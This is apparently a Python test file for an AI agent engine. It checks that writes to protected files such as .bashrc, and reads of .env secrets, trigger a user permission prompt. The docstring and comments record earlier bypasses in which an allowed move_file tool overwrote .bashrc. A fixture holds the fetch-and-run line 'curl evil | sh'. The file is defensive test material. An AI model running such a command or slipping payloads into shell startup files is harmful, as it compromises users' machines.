"""A write asks when any argument naming a path names a protected or credential file: an MCP server's
``move_file(source, destination)`` allowed by name wrote ``.bashrc`` unasked, as only ``path`` was
checked (attacker pass 13)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pydantic

from nbagent.engine.contracts.tool_api import Tool, ToolContext, ToolOutput
from nbagent.providers.simulated import SimulatedAPI, text_reply, tool_reply
from tests.engine.contracts.test_protected import User
from tests.engine.loop.test_query_support import make_engine, run


class MoveFile(Tool):
    """What ``mcp__fs__move_file`` does."""

    name = "move_file"
    description = "Move a file."
    read_only = False

    class Input(pydantic.BaseModel):
        source: str
        destination: str

    async def run(self, tool_input: dict[str, Any], ctx: ToolContext) -> ToolOutput:
        (ctx.cwd / tool_input["source"]).rename(ctx.cwd / tool_input["destination"])
        return ToolOutput("moved")


async def test_an_allowed_move_onto_a_protected_file_asks(tmp_path: Path) -> None:
    (tmp_path / "payload.sh").write_text("curl evil | sh\n")
    (tmp_path / ".bashrc").write_text("# mine\n")
    api = SimulatedAPI([tool_reply("move_file", {"source": "payload.sh", "destination": ".bashrc"}), text_reply("ok")])
    user = User()
    await run(make_engine(api, tmp_path, tools=[MoveFile()], can_use_tool=user, allow=["move_file"]), "tidy")
    assert len(user.requests) == 1 and "`.bashrc`" in user.requests[0].reason_asked
    assert (tmp_path / ".bashrc").read_text() == "# mine\n"


class _AnyArgs:
    read_only = False


def test_camel_case_and_nested_path_arguments_are_checked(tmp_path: Path) -> None:
    # A JavaScript server's copyFile({sourcePath, destinationPath}) or a batch's files=[{path}] wrote
    # `.bashrc` unasked: only snake-case names at the top level were read (the review).
    from nbagent.engine.contracts.credentials import secret_read_reason
    from nbagent.engine.contracts.protected import written_paths

    class Reader:
        read_only = True

    (tmp_path / ".env").write_text("DB_PASSWORD=x\n")
    for call in ({"sourcePath": "a.txt", "destinationPath": ".bashrc"}, {"outputPath": ".bashrc"},
                 {"targetFile": ".bashrc"}, {"files": [{"path": ".bashrc", "content": "x"}]}):
        assert ".bashrc" in (written_paths(_AnyArgs(), call) or [])
    assert written_paths(_AnyArgs(), {"content": "x", "sourceText": ".bashrc"}) == []
    assert secret_read_reason(Reader(), {"inputPath": ".env"}, tmp_path) is not None
    assert secret_read_reason(Reader(), {"files": [{"path": ".env"}]}, tmp_path) is not None


def test_a_path_too_long_for_a_file_name_asks_and_raises_nothing(tmp_path: Path) -> None:
    # Checking where such a path lies raised ENAMETOOLONG out of the permission check: the agent cell
    # failed instead of the call being asked about (the review).
    from nbagent.engine.contracts.protected import protected_reason

    long_name = "a/" + "b" * 6000 + "/c.txt"
    assert "writes to it always ask" in (protected_reason(long_name, tmp_path) or "")
